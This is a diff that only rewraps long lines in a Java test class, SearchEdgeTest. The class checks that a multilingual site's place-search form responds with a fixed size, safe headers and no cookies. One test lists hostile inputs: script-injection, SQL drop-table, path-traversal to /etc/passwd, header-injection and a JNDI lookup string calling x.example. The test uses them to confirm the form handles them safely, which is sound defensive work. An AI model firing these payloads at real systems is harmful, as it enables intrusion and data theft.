@@ -47,7 +47,8 @@ class SearchEdgeTest {
     @Test
     void leadsToTheOnePlaceThatIsNamed() throws IOException {
         for (SiteLanguage language : SiteLanguage.values()) {
-            for (List<String> question : List.of(List.of("Kista", "jarva"), List.of("  NACKA! ", "nacka"), List.of("131 40", "nacka"), List.of("ناكا", "nacka"))) {
+            for (List<String> question : List.of(List.of("Kista", "jarva"), List.of("  NACKA! ", "nacka"),
+                    List.of("131 40", "nacka"), List.of("ناكا", "nacka"))) {
                 Reply reply = http.search("/" + language.tag() + "/find", question.get(0));
                 assertEquals(303, reply.status(), question.get(0));
                 assertEquals("/" + language.tag() + "/" + question.get(1), reply.headers().get("location"));
@@ -59,19 +60,24 @@ class SearchEdgeTest {
     void asksWhichWhenSeveralPlacesHaveTheName() throws IOException {
         Reply reply = http.search("/sv/find", "Tuna");
         assertEquals(200, reply.status());
-        assertEquals(Set.of("/sv/botkyrka", "/sv/osteraker"), Set.copyOf(page(reply).select(".found a").eachAttr("href")));
+        assertEquals(Set.of("/sv/botkyrka", "/sv/osteraker"),
+                Set.copyOf(page(reply).select(".found a").eachAttr("href")));
     }
 
     @Test
     void everyAnswerHasTheOneSizeAndEveryHeader() throws IOException {
-        for (String typed : List.of("Kista", "Kissta", "vill dö", "min man slår mig", "var bor min fru", "", "\u0000", "<".repeat(20_000), EveryPage.random(3))) {
+        for (String typed : List.of("Kista", "Kissta", "vill dö", "min man slår mig", "var bor min fru", "", "\u0000",
+                "<".repeat(20_000), EveryPage.random(3))) {
             Reply reply = http.search("/ar/find", typed);
             assertEquals(Wire.SIZE, reply.size(), typed);
             assertEquals(Wire.PLAIN_SIZE, http.search("/ar/find", typed, "Accept-Encoding: identity").size(), typed);
-            Wire.HEADERS.forEach(header -> assertTrue(reply.headerLines().contains(header.name() + ": " + header.value()), header.toString()));
+            Wire.HEADERS
+                    .forEach(header -> assertTrue(reply.headerLines().contains(header.name() + ": " + header.value()),
+                            header.toString()));
             assertFalse(reply.headers().containsKey("set-cookie"), reply.head());
         }
-        for (Reply refused : List.of(http.post("/sv/find", "q=%zz"), http.post("/sv/find", "q=" + "x".repeat(70_000)), http.post("/sv", "q=x"))) {
+        for (Reply refused : List.of(http.post("/sv/find", "q=%zz"), http.post("/sv/find", "q=" + "x".repeat(70_000)),
+                http.post("/sv", "q=x"))) {
             assertEquals(Wire.SIZE, refused.size(), refused.head());
         }
     }
@@ -101,7 +107,8 @@ class SearchEdgeTest {
 
     @Test
     void takesTheFormOnlyWhereItIsAndOnlyByPost() throws IOException {
-        for (String path : List.of("/", "/sv", "/find", "/sv/nacka", "/xx/find", "/sv/find/", "/sv/sv/find", "/sv/findx", "/ar/exposed", "/exit", "/return", "/finding")) {
+        for (String path : List.of("/", "/sv", "/find", "/sv/nacka", "/xx/find", "/sv/find/", "/sv/sv/find",
+                "/sv/findx", "/ar/exposed", "/exit", "/return", "/finding")) {
             assertEquals(405, http.search(path, "Kista").status(), path);
         }
         for (String method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")) {
@@ -118,7 +125,9 @@ class SearchEdgeTest {
         String chunk = "1000\r\n" + "x".repeat(4_096) + "\r\n";
         assertEquals(413, send(chunked + "2\r\nq=\r\n" + chunk.repeat(17) + "0\r\n\r\n").status());
         assertEquals(200, send(chunked + "2\r\nq=\r\n" + chunk.repeat(3) + "0\r\n\r\n").status());
-        assertEquals(413, send("POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM + "Content-Length: 10000000000\r\n\r\nq=").status());
+        assertEquals(413,
+                send("POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM + "Content-Length: 10000000000\r\n\r\nq=")
+                        .status());
     }
 
     @Test
@@ -135,7 +144,9 @@ class SearchEdgeTest {
         for (String from : List.of("same-origin", "none")) {
             assertEquals(303, http.search("/sv/find", "Kista", "Sec-Fetch-Site: " + from).status(), from);
         }
-        assertEquals(303, http.search("/sv/find", "Kista", "Content-Type: application/x-www-form-urlencoded; charset=UTF-8").status());
+        assertEquals(303,
+                http.search("/sv/find", "Kista", "Content-Type: application/x-www-form-urlencoded; charset=UTF-8")
+                        .status());
     }
 
     @Test
@@ -143,20 +154,25 @@ class SearchEdgeTest {
         String shortened = page(http.search("/sv/find", "x".repeat(601))).select("main > p").text();
         assertTrue(shortened.contains("bara början"), shortened);
         assertFalse(page(http.search("/sv/find", "x".repeat(600))).select("main > p").text().contains("bara början"));
-        for (String typed : List.of("x".repeat(60_000), "Kista " + "och så vidare ".repeat(3_000), "x".repeat(599) + "😀".repeat(100))) {
+        for (String typed : List.of("x".repeat(60_000), "Kista " + "och så vidare ".repeat(3_000),
+                "x".repeat(599) + "😀".repeat(100))) {
             Reply reply = http.search("/sv/find", typed);
             assertEquals(200, reply.status());
             Document page = page(reply);
             assertTrue(page.select("main > p").text().contains("bara början"));
-            assertTrue(typed.startsWith(page.select("#q").attr("value")), "nothing else than what was typed stands in the box");
+            assertTrue(typed.startsWith(page.select("#q").attr("value")),
+                    "nothing else than what was typed stands in the box");
         }
     }
 
     @Test
     void showsWhatIsHostileAsWhatItIs() throws IOException {
-        List<String> hostile = List.of("\"><script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "</form><form action=https://x.example>", "{words} {#if} {site:home}",
-                "<!--", "]]>", "&lt;b&gt; &amp; &#34; &quot;", "*:*", "AND \"a~~ [x TO", "+-&&||!(){}[]^\"~*?:\\/", "name:/.*/ OR keys:*", ".*(a+)+$", "a* ?* *a", "((((((((((",
-                "\\u0000 %00 ${jndi:ldap://x.example/a} #{7*7} {{7*7}}", "'; drop table revision; --", "../../../../etc/passwd", "\r\nSet-Cookie: a=b",
+        List<String> hostile = List.of("\"><script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>",
+                "</form><form action=https://x.example>", "{words} {#if} {site:home}",
+                "<!--", "]]>", "&lt;b&gt; &amp; &#34; &quot;", "*:*", "AND \"a~~ [x TO", "+-&&||!(){}[]^\"~*?:\\/",
+                "name:/.*/ OR keys:*", ".*(a+)+$", "a* ?* *a", "((((((((((",
+                "\\u0000 %00 ${jndi:ldap://x.example/a} #{7*7} {{7*7}}", "'; drop table revision; --",
+                "../../../../etc/passwd", "\r\nSet-Cookie: a=b",
                 "\u202e\u2066vem är du\u2069\u202c", "a\u0301".repeat(300), "\ufeff\u200b\u200c\u200d\u2060");
         for (String typed : hostile) {
             Reply reply = bounded("q=" + URLEncoder.encode(typed, StandardCharsets.UTF_8));
@@ -167,9 +183,12 @@ class SearchEdgeTest {
             assertFalse(reply.headers().containsKey("set-cookie"), typed);
         }
         // What cannot stand on a page, or is no text at all.
-        for (String body : List.of("q=%00%00Kista%00x", "q=%01%08%0b%1b%7f%c2%80%c2%9f", "q=%ED%A0%80", "q=%ED%B0%80x", "q=%ff%fe%c0%af", "q=%ef%bf%be%ef%bf%bf",
-                "q=%f4%90%80%80", "q=a" + "%CC%81".repeat(10_000), "q=" + "%E0%B8%81%E0%B9%89%E0%B9%89%E0%B9%89".repeat(1_000), "q=" + "%EF%B7%BA".repeat(6_000),
-                "q=" + "a+".repeat(30_000), "q=" + "1".repeat(60_000), "q=" + "&q=".repeat(20_000), "q=" + "slar+han+mig+".repeat(4_000), "q=" + "x".repeat(34) + "+" + "y".repeat(18))) {
+        for (String body : List.of("q=%00%00Kista%00x", "q=%01%08%0b%1b%7f%c2%80%c2%9f", "q=%ED%A0%80", "q=%ED%B0%80x",
+                "q=%ff%fe%c0%af", "q=%ef%bf%be%ef%bf%bf",
+                "q=%f4%90%80%80", "q=a" + "%CC%81".repeat(10_000),
+                "q=" + "%E0%B8%81%E0%B9%89%E0%B9%89%E0%B9%89".repeat(1_000), "q=" + "%EF%B7%BA".repeat(6_000),
+                "q=" + "a+".repeat(30_000), "q=" + "1".repeat(60_000), "q=" + "&q=".repeat(20_000),
+                "q=" + "slar+han+mig+".repeat(4_000), "q=" + "x".repeat(34) + "+" + "y".repeat(18))) {
             Document page = page(bounded(body));
             assertEquals("/sv/find", page.select("form").attr("action"));
         }
@@ -180,18 +199,21 @@ class SearchEdgeTest {
         Reply reply = http.post("/sv/find", body);
         String what = body.substring(0, Math.min(60, body.length()));
         assertEquals(200, reply.status(), what);
-        assertTrue(System.nanoTime() - asked < PATIENCE, () -> what + " took " + (System.nanoTime() - asked) / 1_000_000 + " ms");
+        assertTrue(System.nanoTime() - asked < PATIENCE,
+                () -> what + " took " + (System.nanoTime() - asked) / 1_000_000 + " ms");
         return reply;
     }
 
     @Test
     void answersAnythingAtAll() {
         JqwikSession.run(() -> Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(700),
-                Arbitraries.of("jag", "slår", "Tuna", "131 40", "min man", "vill dö", "i", "\"", "kbt", "ناكا", "?", "-", "\u0301").list().ofMaxSize(30).map(words -> String.join(" ", words)))
+                Arbitraries.of("jag", "slår", "Tuna", "131 40", "min man", "vill dö", "i", "\"", "kbt", "ناكا", "?",
+                        "-", "\u0301").list().ofMaxSize(30).map(words -> String.join(" ", words)))
                 .sampleStream().limit(60).forEach(typed -> {
                     try {
                         Reply reply = http.search("/en/find", typed);
-                        assertTrue(reply.status() == 200 || reply.status() == 303, () -> reply.status() + " for " + typed);
+                        assertTrue(reply.status() == 200 || reply.status() == 303,
+                                () -> reply.status() + " for " + typed);
                         assertEquals(Wire.SIZE, reply.size(), typed);
                     } catch (IOException silence) {
                         throw new UncheckedIOException(typed, silence);
@@ -212,13 +234,15 @@ class SearchEdgeTest {
     /** A browser keeps its connection, also when a body was not looked at. */
     @Test
     void goesOnAnsweringOnTheSameConnection() throws IOException {
-        String post = "POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM + "Accept-Encoding: gzip\r\nContent-Length: 7\r\n";
+        String post = "POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM
+                + "Accept-Encoding: gzip\r\nContent-Length: 7\r\n";
         for (String cookie : List.of("", "Cookie: __Host-v=1\r\n")) {
             try (Socket socket = new Socket("127.0.0.1", site.getPort())) {
                 socket.setSoTimeout(5_000);
                 for (int times = 0; times < 3; times++) {
                     socket.getOutputStream().write((post + cookie + "\r\nq=Kista").getBytes(StandardCharsets.US_ASCII));
-                    String answer = new String(socket.getInputStream().readNBytes(Wire.SIZE), StandardCharsets.ISO_8859_1);
+                    String answer = new String(socket.getInputStream().readNBytes(Wire.SIZE),
+                            StandardCharsets.ISO_8859_1);
                     assertTrue(answer.startsWith("HTTP/1.1 303 "), answer.substring(0, 30));
                 }
             }
@@ -232,7 +256,9 @@ class SearchEdgeTest {
             for (int one = 0; one < 100; one++) {
                 Socket socket = new Socket("127.0.0.1", site.getPort());
                 unfinished.add(socket);
-                socket.getOutputStream().write(("POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM + "Content-Length: 10\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
+                socket.getOutputStream()
+                        .write(("POST /sv/find HTTP/1.1\r\nHost: localhost\r\n" + FORM + "Content-Length: 10\r\n\r\n")
+                                .getBytes(StandardCharsets.US_ASCII));
                 socket.getOutputStream().flush();
             }
             long asked = System.nanoTime();
